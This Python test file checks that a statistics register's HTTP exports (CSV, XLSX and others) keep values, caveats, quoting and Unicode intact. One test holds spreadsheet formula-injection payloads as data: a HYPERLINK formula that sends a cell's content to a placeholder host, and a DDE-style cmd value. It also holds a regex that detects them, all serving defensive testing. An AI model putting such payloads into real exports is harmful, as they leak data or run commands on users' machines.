"""Every promise of every format, each checked by the programs that people read it with.

A register of odd texts (tests/formats/odd.py) is published and asked for over HTTP in every format of FORMATS, as a list
of figures and as a table by year. docs/formats.md has the table of what is checked; it is made here.
"""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import NamedTuple

import openpyxl
import pytest

from misconduct.formats import BY_YEAR_FORMATS, CHART_FORMATS, EVERYWHERE, FORMATS
from tests.conftest import PROJECT
from tests.formats import odd
from tests.formats.readers import READERS, Found, Reader
from tests.serving import Served

PAGE = PROJECT / "docs" / "formats.md"
BEGIN, END = "<!-- made by tests/formats/test_promises.py: begin -->", "<!-- end -->"

ADDRESSES = {"figures": "/v1/observations.{}?detail=full", "by year": "/v1/observations/by-year.{}?detail=full"}
OFFERED = {
    "figures": EVERYWHERE,
    "by year": tuple(form for form in BY_YEAR_FORMATS if form not in ("sdmx", *CHART_FORMATS)),
}


class Answer(NamedTuple):
    """The bytes of an answer, and what a reader found in them."""

    form: str
    body: bytes
    found: Found

    def every(self, name: str) -> dict[str, object]:
        """One fact of every figure, by id."""
        return {identity: figure[name] for identity, figure in self.found.figures.items()}


def expected(name: str) -> dict[str, object]:
    return {identity: figure[name] for identity, figure in odd.FIGURES.items()}


# The promises. Each takes an answer; its name is what docs/formats.md says.


def values_are_the_numbers_stated(answer: Answer) -> None:
    assert answer.every("value") == expected("value")
    assert not any(isinstance(value, str) for value in answer.every("value").values())


def nothing_absent_is_a_zero(answer: Answer) -> None:
    assert answer.found.figures["bbbb3"]["value"] == 0
    assert answer.found.figures["bbbb4"]["value"] is None
    assert answer.every("value_absent") == expected("value_absent")
    assert answer.found.gaps == (answer.found.gaps and {place: (None, reason) for place, reason in odd.GAPS.items()})


def figures_stand_as_printed(answer: Answer) -> None:
    assert answer.every("printed") == expected("printed")
    assert answer.every("period_printed") == expected("period_printed")


def qualifiers_are_there(answer: Answer) -> None:
    assert answer.every("qualifier") == expected("qualifier")


def hedges_are_there(answer: Answer) -> None:
    assert answer.every("hedge") == expected("hedge")


def statuses_are_there(answer: Answer) -> None:
    assert answer.every("obs_status") == expected("obs_status")


def caveats_are_there_each_with_its_figure(answer: Answer) -> None:
    assert answer.every("caveats") == expected("caveats")


def sources_are_there_and_why_a_fact_about_them_is_not(answer: Answer) -> None:
    for figure in answer.found.figures.values():
        assert {name: figure[name] for name in odd.SOURCE} == odd.SOURCE


def formula_like_text_is_harmless(answer: Answer) -> None:
    HARMLESS.get(answer.form, lambda _: None)(answer.body)
    for figure in answer.found.figures.values():
        assert figure["source_title"] == '=HYPERLINK("http://example.org/?a="&A1,"press")'
        assert figure["stated_by_label"] == "-2+3+cmd|' /C calc'!A0"


def negative_numbers_are_unharmed(answer: Answer) -> None:
    figures = answer.found.figures
    assert [(figures[one]["value"], figures[one]["printed"]) for one in ("bbbb7", "bbbb8", "bbbbb")] == [
        (-3, "-3%"),
        (-0.5, "−0.5%"),
        (-12, "-12"),
    ]
    assert b"'-3" not in answer.body
    assert b"'-12" not in answer.body


def commas_quotes_and_line_breaks_come_back(answer: Answer) -> None:
    figure = answer.found.figures["bbbb5"]
    assert figure["source_publisher"] == '+The "Daily, Odd" Paper;=1+1'
    assert figure["source_byline"] == "-An Author\nand @another"
    assert figure["hedge"] == '=nearly, "they" say'
    assert figure["caveats"][1] == "Two | parts || and \"quotes\", 'more' |"


def right_to_left_and_astral_characters_come_back(answer: Answer) -> None:
    assert set(answer.every("category_label").values()) == {'שלום عالم, "𝟙🚓"'}
    assert answer.found.figures["bbbb8"]["hedge"] == "שלום 𝟙"


def the_release_is_named(answer: Answer) -> None:
    assert set(answer.every("release").values()) == {"1.0.0"}
    cited = answer.every("cite_as")
    service = (
        "" if FORMATS[answer.form].takes == "table" else "http://localhost:8000"
    )  # a table is the same whoever serves it
    assert cited == {one: f"{service}/v1/observations/{one}?release=1.0.0" for one in odd.FIGURES}


def the_licence_is_named(answer: Answer) -> None:
    assert set(answer.every("licence").values()) == {"https://creativecommons.org/licenses/by/4.0/"}
    assert set(answer.every("attribution").values()) == {"Misconduct Register"}


PROMISES: tuple[Callable[[Answer], None], ...] = (
    values_are_the_numbers_stated,
    nothing_absent_is_a_zero,
    figures_stand_as_printed,
    qualifiers_are_there,
    hedges_are_there,
    statuses_are_there,
    caveats_are_there_each_with_its_figure,
    sources_are_there_and_why_a_fact_about_them_is_not,
    formula_like_text_is_harmless,
    negative_numbers_are_unharmed,
    commas_quotes_and_line_breaks_come_back,
    right_to_left_and_astral_characters_come_back,
    the_release_is_named,
    the_licence_is_named,
)
SAME_BYTES = "the same question is answered by the same bytes"


# What a spreadsheet must not run


def no_cell_begins_a_formula(body: bytes) -> None:
    """Whatever the separator that the file is opened with."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(body.decode(), newline=""), delimiter=separator):
            for cell in row:
                assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", cell) or re.fullmatch(r"-?[\d.]+%?", cell), cell


def no_cell_is_a_formula(body: bytes) -> None:
    for sheet in openpyxl.load_workbook(io.BytesIO(body)):
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d", "b"}
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        assert not any(b"<f>" in parts.read(name) or b"<hyperlink" in parts.read(name) for name in parts.namelist())


HARMLESS: dict[str, Callable[[bytes], None]] = {"csv": no_cell_begins_a_formula, "xlsx": no_cell_is_a_formula}
"""The formats that spreadsheets open, and what they must not find. Elsewhere text is text: nothing runs it."""


WITHOUT_FIGURES = {
    "jsonld": "tests/api/test_well_known.py",
    "atom": "tests/api/test_changes.py",
    "sdmx": "tests/clients/test_sdmx.py",
    **dict.fromkeys(("bib", "ris", "csl"), "tests/api/test_well_known.py"),
    **dict.fromkeys(CHART_FORMATS, "tests/charts/test_drawing.py"),
}
"""The formats of charts, metadata, feeds and citations, or of what SDMX has a place for, and where they are read."""


# The tests


@pytest.fixture(scope="module")
def odd_service(postgres) -> Iterator[Served]:
    with odd.serve_odd(postgres) as running:
        yield running


def ask(served: Served, what: str, form: str) -> bytes:
    answer = served.client.get(ADDRESSES[what].format(form))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == FORMATS[form].content_type
    return answer.content


READINGS = [
    pytest.param(what, form, reader, id=f"{what}-{form}-{reader.name}")
    for what, forms in OFFERED.items()
    for form in forms
    for reader in READERS.get(form, ())
]


@pytest.mark.parametrize(("what", "form", "reader"), READINGS)
@pytest.mark.parametrize("promise", PROMISES, ids=lambda promise: promise.__name__)
def test_promise(odd_service, what, form, reader: Reader, promise):
    body = ask(odd_service, what, form)
    find = reader.find if what == "figures" else reader.find_by_year
    answer = Answer(form, body, find(reader.read(body)))
    assert set(answer.found.figures) == set(odd.FIGURES)
    assert bool(answer.found.gaps) == (what == "by year")
    promise(answer)


def test_the_same_question_is_answered_by_the_same_bytes(odd_service):
    asked = [(what, form) for what, forms in OFFERED.items() for form in forms]
    first = [ask(odd_service, what, form) for what, form in asked]
    time.sleep(2.1)  # some formats would write the time; that of ZIP counts in two seconds
    assert [ask(odd_service, what, form) for what, form in asked] == first


@pytest.mark.parametrize("form", FORMATS)
def test_every_format_has_a_reader(form):
    if form in WITHOUT_FIGURES:
        assert (PROJECT / WITHOUT_FIGURES[form]).is_file()
    else:
        assert READERS.get(form), f"{form} has no reader in tests/formats/readers.py"
    assert any(form in forms for forms in OFFERED.values()) != (form in WITHOUT_FIGURES)


def test_the_page_about_formats_says_what_is_checked():
    text = PAGE.read_text(encoding="utf-8")
    made = f"{text.partition(BEGIN)[0]}{BEGIN}\n{tables()}{END}{text.partition(END)[2]}"
    assert text == made, "docs/formats.md is stale: .venv/bin/python -m tests.formats.test_promises writes it anew"


# The table


def tables() -> str:
    return "\n".join(table(what) for what in OFFERED)


def table(what: str) -> str:
    """A row for each promise, a column for each format, in the cells who checked it."""
    forms = OFFERED[what]
    programs = [", ".join(reader.name for reader in READERS[form]) for form in forms]
    names = [promise.__name__.replace("_", " ") for promise in PROMISES]
    rows = [[name, *programs] for name in names] + [[SAME_BYTES, *("bytes compared" for _ in forms)]]
    assert all(cell for row in rows for cell in row)
    lines = [[what, *(f"`.{form}`" for form in forms)], ["---"] * (len(forms) + 1), *rows]
    return "".join(f"| {' | '.join(line)} |\n" for line in lines)


if __name__ == "__main__":
    before, _, rest = PAGE.read_text(encoding="utf-8").partition(BEGIN)
    PAGE.write_text(f"{before}{BEGIN}\n{tables()}{END}{rest.partition(END)[2]}", encoding="utf-8")
